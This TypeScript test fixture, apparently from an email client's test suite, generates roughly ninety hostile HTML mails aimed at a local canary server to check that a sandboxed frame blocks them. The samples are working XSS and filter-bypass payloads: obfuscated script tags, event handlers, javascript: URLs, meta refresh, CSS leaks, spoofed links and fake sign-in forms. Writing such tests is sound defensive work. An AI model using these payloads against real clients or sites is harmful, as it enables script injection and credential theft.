/**
 * HTML that was written to break out of the frame it is shown in. Each tries to reach the canary, a server of the test that
 * counts every connection, to run a script, which would do the same, or to lead the page away.
 * @param canary `http://127.0.0.1:PORT`
 */
export function hostileMails(canary: string): readonly (readonly [name: string, html: string])[] {
  const call = `fetch('${canary}/script',{mode:'no-cors'});top.location='${canary}/top'`;
  const entity = [...`fetch('${canary}/entity')`].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
  const encoded = Buffer.from(`<script>${call}</script>`).toString('base64');
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`).toString('base64');
  return [
    ['script', `<script>${call}</script>`],
    ['script from elsewhere', `<script src="${canary}/a.js"></script>`],
    ['module script', `<script type="module">import '${canary}/m.js'</script>`],
    ['script in odd case', `<ScRiPt/x>${call}</sCrIpT >`],
    ['script in a script', `<scr<script>ipt>${call}</scr</script>ipt>`],
    ['script after a broken comment', `<!--><script>${call}</script>-->`],
    ['script after CDATA', `<![CDATA[<script>${call}</script>]]>`],
    ['script in noscript', `<noscript><p title="</noscript><script>${call}</script>"></noscript>`],
    ['script in a textarea', `<textarea></textarea><script>${call}</script>`],
    ['script in a title', `<title></title><script>${call}</script>`],
    ['script in a template', `<template><script>${call}</script></template>`],
    ['script in MathML', `<math><mtext><table><mglyph><style><!--</style><img src onerror="${call}">`],
    [
      'speculation rules',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${canary}/spec"]}]}</script>`,
    ],
    ['import map', `<script type="importmap">{"imports":{"x":"${canary}/x.js"}}</script>`],
    ['onerror', `<img src="x:" onerror="${call}">`],
    ['onload of the body', `<body onload="${call}">text</body>`],
    ['onload of a style', `<style onload="${call}">p{}</style>`],
    ['onfocus with autofocus', `<input autofocus onfocus="${call}">`],
    ['ontoggle', `<details open ontoggle="${call}"><summary>x</summary></details>`],
    ['onbegin of an animation', `<svg><animate onbegin="${call}" attributeName="x" dur="1s"></svg>`],
    [
      'onscroll',
      `<div onscroll="${call}" style="overflow:scroll;height:9px"><p style="height:99px" id="x">x</div>`,
    ],
    ['onpointerover over everything', `<a style="position:fixed;inset:0" onpointerover="${call}">x</a>`],
    ['handler in entities', `<img src="x:" onerror="${entity}">`],
    ['handler after a slash', `<svg/onload=${call.replaceAll("'", '&#39;')}>`],
    [
      'media that cannot load',
      `<video><source onerror="${call}" src="x:"></video><audio src="x:" onerror="${call}">`,
    ],
    ['svg script', `<svg><script>${call}</script></svg>`],
    ['svg script by reference', `<svg><script href="${canary}/svg.js"></script></svg>`],
    ['svg use from elsewhere', `<svg><use href="${canary}/a.svg#x"></use></svg>`],
    [
      'svg image from elsewhere',
      `<svg width="9" height="9"><image href="${canary}/i.png" width="9" height="9"/></svg>`,
    ],
    [
      'svg filter image',
      `<svg><filter id="f"><feImage href="${canary}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    ['svg foreign object', `<svg><foreignObject><iframe src="${canary}/fo"></iframe></foreignObject></svg>`],
    ['svg link', `<svg><a href="javascript:${call}"><text y="20">click</text></a></svg>`],
    ['svg as an image', `<img src="data:image/svg+xml;base64,${svg}">`],
    ['image from elsewhere', `<img src="${canary}/pixel.gif" width="1" height="1">`],
    [
      'image by srcset',
      `<picture><source srcset="${canary}/p.webp"><img srcset="${canary}/1.png 1x" src="${canary}/2.png"></picture>`,
    ],
    ['image without a scheme', `<img src="${canary.slice('http:'.length)}/noscheme.png">`],
    ['lazy image', `<img loading="eager" fetchpriority="high" src="${canary}/lazy.png">`],
    [
      'background attribute',
      `<table background="${canary}/bg.png"><tr><td background="${canary}/td.png">x</table>`,
    ],
    ['image button', `<form action="${canary}/f"><input type="image" src="${canary}/button.png"></form>`],
    ['video poster', `<video poster="${canary}/poster.png" autoplay src="${canary}/v.mp4"></video>`],
    ['sound', `<audio autoplay src="${canary}/a.mp3"></audio><bgsound src="${canary}/b.wav">`],
    ['subtitles', `<video><track default kind="subtitles" src="${canary}/t.vtt"></video>`],
    ['css url()', `<p style="background:url(${canary}/css.png)">x</p>`],
    [
      'css url() in a sheet',
      `<style>body{background:url('${canary}/sheet.png')} li{list-style:url(${canary}/li.png)}</style><li>x`,
    ],
    ['css import', `<style>@import '${canary}/i.css'; @import url(${canary}/j.css);</style>`],
    ['css font', `<style>@font-face{font-family:f;src:url(${canary}/f.woff2)} p{font-family:f}</style><p>x`],
    ['css image-set', `<p style="background-image:image-set('${canary}/set.png' 1x)">x</p>`],
    [
      'css cursor and content',
      `<style>p{cursor:url(${canary}/c.cur),auto} p::after{content:url(${canary}/c.png)}</style><p>x`,
    ],
    ['css with escapes', `<p style="background:\\75\\72\\6c(${canary}/escaped.png)">x</p>`],
    [
      'css attribute selectors',
      `<style>input[value^="a"]{background:url(${canary}/leak)}</style><input value="abc">`,
    ],
    ['style sheet', `<link rel="stylesheet" href="${canary}/s.css">`],
    ['preconnect', `<link rel="preconnect" href="${canary}"><link rel="dns-prefetch" href="${canary}">`],
    [
      'prefetch and preload',
      `<link rel="prefetch" href="${canary}/p"><link rel="preload" as="image" href="${canary}/q"><link rel="modulepreload" href="${canary}/r">`,
    ],
    [
      'icon and manifest',
      `<link rel="icon" href="${canary}/i.ico"><link rel="manifest" href="${canary}/m.json">`,
    ],
    [
      'link with NUL and slashes',
      `<\u0000link rel=preconnect href="${canary}"><link/rel="preconnect"/href="${canary}">`,
    ],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`],
    ['meta refresh in the body', `<body><p>x<META HTTP-EQUIV=Refresh CONTENT="0; URL=${canary}/r2">`],
    ['meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${call}">`],
    [
      'meta policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${call}</script>`,
    ],
    ['base', `<base href="${canary}/"><img src="relative.png"><a href="x" target="_top">x</a>`],
    [
      'form that sends itself',
      `<form id="f" action="${canary}/form" method="post"><input name="a" value="b"></form><script>document.getElementById('f').submit()</script>`,
    ],
    ['iframe', `<iframe src="${canary}/frame"></iframe>`],
    [
      'iframe srcdoc',
      `<iframe srcdoc="&lt;script&gt;${call.replaceAll('"', '&quot;')}&lt;/script&gt;&lt;img src=${canary}/srcdoc&gt;"></iframe>`,
    ],
    ['iframe of a data: address', `<iframe src="data:text/html;base64,${encoded}"></iframe>`],
    [
      'iframe with its own leave',
      `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="${canary}/own"></iframe>`,
    ],
    ['nested frames', `<frameset><frame src="${canary}/frameset"></frameset>`],
    [
      'object',
      `<object data="${canary}/o.swf"></object><object data="data:text/html;base64,${encoded}"></object>`,
    ],
    ['embed', `<embed src="${canary}/e.pdf"><applet code="x" archive="${canary}/x.jar"></applet>`],
    [
      'portal and fenced frame',
      `<portal src="${canary}/p"></portal><fencedframe src="${canary}/ff"></fencedframe>`,
    ],
    ['javascript: link', `<a href="javascript:${call}" id="go" autofocus>x</a>`],
    ['javascript: in odd spelling', `<a href=" &#x6A;ava&Tab;script&colon;${call}">x</a>`],
    ['link with a ping', `<a href="#x" ping="${canary}/ping">x</a>`],
    ['link to the top', `<a href="${canary}/top" target="_top" style="position:fixed;inset:0">x</a>`],
    [
      'an overlay over everything',
      `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">x</div>`,
    ],
    [
      'a very wide page',
      `<div style="width:99999px;height:99999px;background:linear-gradient(red,blue)">x</div>`,
    ],
    [
      'a dialog',
      `<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Session ended. <form action="${canary}/login"><input type="password" autofocus></form></dialog>`,
    ],
    ['a popover', `<div popover="manual" id="p">x</div><button popovertarget="p" autofocus>x</button>`],
    [
      'a sign-in page',
      `<form action="${canary}/phish" method="post"><input name="user"><input type="password" name="p"><button formaction="${canary}/b">Sign in</button></form>`,
    ],
    ['a huge table', `<table>${'<tr><td>x</td></tr>'.repeat(20_000)}</table>`],
    ['deep nesting', `${'<div>'.repeat(5_000)}x`],
    ['unclosed everything', `<a href="${canary}/u" <b <i style="color:red <img src=${canary}/v`],
    [
      'text that runs backwards',
      `<p>\u202Efdp.exe\u202C <a href="${canary}/rtl">https://bank.example\u202E/moc.live//:sptth</a></p>`,
    ],
    ['letters that look alike', `<a href="http://xn--80ak6aa92e.example/">https://www.аррӏе.com/</a>`],
    ['an anchor that says another address', `<a href="${canary}/evil">https://bank.example/login</a>`],
    [
      'controls and unpaired surrogates',
      `<p>\u0001\u0008\u007f&#xD800;&#0;</p><script\u000b>${call}</script>`,
    ],
    [
      'a second document',
      `</body></html><!doctype html><html><head><meta http-equiv=refresh content="0;url=${canary}/2"></head><body onload="${call}">`,
    ],
    ['cid of nothing', `<img src="cid:nothing"><img src="cid:../../api/app/session">`],
    [
      'our own addresses',
      `<img src="/signout"><form method="post" action="/signout"><button autofocus>x</button></form><iframe src="/"></iframe>`,
    ],
  ];
}
